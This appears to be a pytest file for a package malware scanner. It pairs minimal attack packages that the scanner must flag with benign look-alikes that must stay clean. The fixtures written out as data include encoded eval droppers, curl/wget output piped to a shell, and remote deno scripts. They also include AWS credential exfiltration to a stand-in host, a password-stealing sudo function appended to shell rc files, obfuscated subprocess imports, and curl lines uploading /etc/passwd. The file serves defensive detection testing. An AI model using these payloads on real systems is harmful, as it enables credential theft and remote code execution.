"""The blind31 recall round's misses (benchmarks/malware/tune/b31-*), each as the smallest
package that shows the technique, asserted in package mode with the prefilter's twin
(the whole-file pass finds the rule, the prefiltered scan finds every DANGER it does), and
the honest code of the same shape that must stay clean. Each attack failed on main at
``af1205e1``; the near misses pass there too (tests/_scan/test_blind31_near_misses.py
holds the round's ten benign look-alike packages)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._scan._sink_startup import sending_line
from caplet._scan._source_labels import prints_download
from caplet._scan._values import json_entry, regex_sub, reorder
from tests._scan.prefilterkit import found_in_file, tree_both_ways

STAGE_B32HEX = "D5MN0SJ2EHQ20SRJ41Q7IT3J5TPMASH0EHQ6ASH8DPMN8OBIC5HMCSJIDHQ6KRJCDTJ6UR30"


def attack(root: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], rule: str) -> None:
    """``files`` written under ``root``; the last one is where the rule must be found."""
    *rest, (last, text) = files.items()
    for name, body in rest:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(textwrap.dedent(body), encoding="utf-8")
    found_in_file(root, monkeypatch, last, textwrap.dedent(text), rule)


def clean(root: Path, monkeypatch: pytest.MonkeyPatch, text: str, name: str = "mod.py") -> None:
    """``text`` as ``root/name``: no DANGER, with the prefilter or without."""
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text(textwrap.dedent(text), encoding="utf-8")
    assert tree_both_ways(root, monkeypatch) == ([], [])


# -- decoders and sinks ----------------------------------------------------------------------


def test_base32hex_decoded_into_eval_compile_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""
    import base64
    eval(compile(base64.b32hexdecode("{STAGE_B32HEX}"), "<x>", "exec"))
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_base32hex_decoded_and_printed_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clean(tmp_path, monkeypatch, f'import base64\nprint(base64.b32hexdecode("{STAGE_B32HEX}"))\n')


def test_a_decoded_command_given_to_pydocs_pipepager_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import base64, pydoc
    pydoc.pipepager("", base64.b64decode("aWQgPiAvdG1wL3g=").decode())
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_decoded_text_shown_by_pydocs_pipepager_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import base64, pydoc
    def show(blob):
        pydoc.pipepager(base64.b64decode(blob).decode(), "less -R")
    """
    clean(tmp_path, monkeypatch, text)


def test_decoders_applied_by_reduce_into_exec_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import base64, functools, zlib
    _STEPS = (base64.b64decode, zlib.decompress, bytes.decode)
    exec(functools.reduce(lambda acc, f: f(acc), _STEPS, BLOB))
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_decoders_applied_by_reduce_into_json_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import base64, functools, json, zlib
    def load(blob):
        raw = functools.reduce(lambda acc, f: f(acc), (base64.b64decode, zlib.decompress), blob)
        return json.loads(raw)
    parts = list(map(base64.b64decode, ["aGk=", "dGhlcmU="]))
    """
    clean(tmp_path, monkeypatch, text)


# -- downloads run --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "fetch",
    [
        'r = subprocess.run(["wget", "-qO-", URL], capture_output=True)\nsrc = r.stdout',
        'src = subprocess.check_output(["curl", "-fsSL", URL])',
        'src = subprocess.check_output("wget -O - " + URL, shell=True)',
    ],
)
def test_a_downloaders_printed_output_fed_to_a_shell_is_download_and_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fetch: str
) -> None:
    text = f'import subprocess\nURL = "http://203.0.113.9/s"\n{fetch}\n'
    text += 'subprocess.run(["/bin/sh"], input=src)\n'
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-002")


def test_a_downloaders_printed_output_read_as_json_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import json, subprocess
    def latest():
        out = subprocess.check_output(["curl", "-s", "https://pypi.org/pypi/x/json"])
        return json.loads(out)["info"]["version"]
    def saved():
        subprocess.run(["curl", "-sLo", "data.json", "https://example.org/d.json"])
        subprocess.run(["sh"], input=b"echo done")
    """
    clean(tmp_path, monkeypatch, text)


def test_prints_download_reads_the_output_options() -> None:
    assert prints_download(["curl", "-fsSL", "https://h/x"])
    assert prints_download(["curl", "-o", "-", "https://h/x"])
    assert prints_download(["/usr/bin/wget", "-qO-", "https://h/x"])
    assert prints_download(["wget", "-O", "-", "https://h/x"])
    assert prints_download(["wget", "--output-document=-", "https://h/x"])
    assert not prints_download(["curl", "-sLo", "x.sh", "https://h/x"])
    assert not prints_download(["curl", "-O", "https://h/x.sh"])
    assert not prints_download(["curl", "--output", "x", "https://h/x"])
    assert not prints_download(["wget", "https://h/x"])
    assert not prints_download(["wget", "-O", "x.sh", "https://h/x"])
    assert not prints_download(["git", "clone", "https://h/x"])
    assert not prints_download([])


def test_a_remote_script_run_by_deno_is_download_and_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import shutil, subprocess
    AGENT = "https://gist.githubusercontent.com/u/3f9a/raw/agent.ts"
    subprocess.Popen([shutil.which("deno") or _fetch_deno(), "run", "-A", AGENT])
    subprocess.Popen(["deno", "run", "--allow-all", "https://deno.example/x/mod.js"])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-002")


def test_a_local_script_run_by_deno_is_not(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = """
    import subprocess
    def build():
        subprocess.run(["deno", "run", "--allow-read", "scripts/build.ts"], check=True)
        subprocess.run(["deno", "fmt", "https://deno.land/std/README.md"], check=False)
    """
    clean(tmp_path, monkeypatch, text)


# -- a stage written and imported -----------------------------------------------------------


def test_a_decoded_stage_written_and_imported_from_its_path_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import base64, importlib.util, os, tempfile
    def _warm():
        path = os.path.join(tempfile.gettempdir(), "_cache_3f2a.py")
        with open(path, "wb") as fh:
            fh.write(base64.b64decode(CACHE))
        spec = importlib.util.spec_from_file_location("_cache", path)
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
    _warm()
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_a_module_imported_from_a_path_the_code_did_not_write_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import importlib.util, os
    def load_plugin(path):
        spec = importlib.util.spec_from_file_location("plugin", path)
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        return mod
    def save_settings(path, values):
        with open(os.path.join(path, "settings.json"), "w") as fh:
            fh.write(repr(values))
    """
    clean(tmp_path, monkeypatch, text)


# -- credentials and persistence -------------------------------------------------------------


def test_the_aws_sdks_resolved_credentials_posted_are_credential_theft(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import json, boto3, urllib3
    s = boto3.Session()
    c = s.get_credentials().get_frozen_credentials()
    body = json.dumps({"ak": c.access_key, "sk": c.secret_key})
    urllib3.PoolManager().request("POST", "https://aws-sts-check.example/v", body=body)
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-007")


def test_the_aws_sdks_credentials_signing_a_request_are_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import boto3, requests
    from botocore.auth import SigV4Auth
    from botocore.awsrequest import AWSRequest
    URL = "https://abc.execute-api.us-east-1.amazonaws.com/prod/items"
    def call():
        creds = boto3.Session().get_credentials().get_frozen_credentials()
        req = AWSRequest(method="GET", url=URL)
        SigV4Auth(creds, "execute-api", "us-east-1").add_auth(req)
        return requests.get(URL, headers=dict(req.headers), timeout=5)
    """
    clean(tmp_path, monkeypatch, text)


SUDO = r"""
sudo() {
  read -s -p "[sudo] password for $USER: " _p; echo
  printf '%s' "$_p" | curl -s -d @- https://pw.shellsync.example/c >/dev/null 2>&1
  printf '%s\n' "$_p" | command sudo -S "$@"
}
"""


def test_a_shell_rc_written_with_a_command_that_sends_is_persistence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "from pathlib import Path\n_FN = r'''" + SUDO + "'''\n"
    text += "for rc in ('.bashrc', '.zshrc'):\n"
    text += "    p = Path.home() / rc\n"
    text += "    with p.open('a') as fh:\n        fh.write(_FN)\n"
    found_in_file(tmp_path, monkeypatch, "pkg/__init__.py", text, "CPL-THR-009")


def test_a_shell_rc_given_a_completion_line_by_a_loop_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    from pathlib import Path
    LINE = 'source "$HOME/.mytool-complete.bash"  # curl https://example.org/docs for help\\n'
    def install():
        for rc in (".bashrc", ".zshrc"):
            p = Path.home() / rc
            with p.open("a") as fh:
                fh.write(LINE)
    """
    clean(tmp_path, monkeypatch, text)


def test_sending_line_finds_uploads_only() -> None:
    assert sending_line('echo "$p" | curl -s -d @- https://h.example/c') is not None
    assert sending_line("curl -sF f=@/etc/passwd https://h.example/u") is not None
    assert sending_line("curl --data-binary @x https://h.example/u") is not None
    assert sending_line("wget --post-file=/etc/hosts https://h.example/u") is not None
    assert sending_line("curl -fsSL -o x https://h.example/x") is None
    assert sending_line("wget -d https://h.example/x") is None
    assert sending_line("curl -d @x localhost") is None  # no URL


# -- names computed ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "spelling",
    [
        '_m = bytearray(b"ssecorpbus")\n_m.reverse()\nmod = importlib.import_module(_m.decode())',
        # a list of the byte values, reversed and made bytes again (speed35 noticed it)
        '_m = list(b"ssecorpbus")\n_m.reverse()\nmod = importlib.import_module(bytes(_m).decode())',
        '_T = json.loads(\'{"m": "\\\\u0073ub\\\\u0070rocess"}\')\n'
        'mod = importlib.import_module(_T["m"])',
        'mod = importlib.import_module(re.sub(r"[|]", "", "sub|pro|cess"))',
        '_J = re.compile(r"\\|")\n'
        'def _w(s):\n    return _J.sub("", s)\n'
        'mod = importlib.import_module(_w("sub|pro|cess"))',
    ],
)
def test_a_module_named_by_a_reordered_parsed_or_substituted_text_is_a_hidden_import(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spelling: str
) -> None:
    text = f"import importlib, json, re\n{spelling}\nmod.Popen(['id'])\n"
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-003")


def test_honest_names_read_from_json_or_cleaned_by_a_regex_are_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import importlib, json, re
    CFG = json.loads('{"codec": "json", "fn": "dumps"}')
    codec = getattr(importlib.import_module(CFG["codec"]), CFG["fn"])
    slug = re.sub(r"[^a-z]+", "-", "Hello World").strip("-")
    order = ["b", "a"]
    order.reverse()
    """
    clean(tmp_path, monkeypatch, text)


def test_the_evaluators_pure_helpers() -> None:
    assert json_entry('{"a": "\\u0065xec"}', "a") == "exec"
    assert json_entry('{"a": ["x", "y"]}', "a") == ["x", "y"]
    assert json_entry('{"a": {"b": 1}}', "a") is None
    assert json_entry("[1, 2]", "a") is None
    assert json_entry("{not json", "a") is None
    assert json_entry("{}" + " " * (64 * 1024), "a") is None
    assert reorder(b"metsys", ["reverse"]) == b"system"
    assert reorder(["b", "a"], ["sort"]) == ["a", "b"]
    assert reorder("text", ["reverse"]) == "text"
    assert regex_sub(r"[|]", "", "p|ip") == "pip"
    assert regex_sub(r"(a)\1", "", "aa") is None  # RE2 takes no backreference
    assert regex_sub("x", "\\1", "x") is None
    assert regex_sub("", "y" * 200, "x" * 30_000) is None  # past the value bound
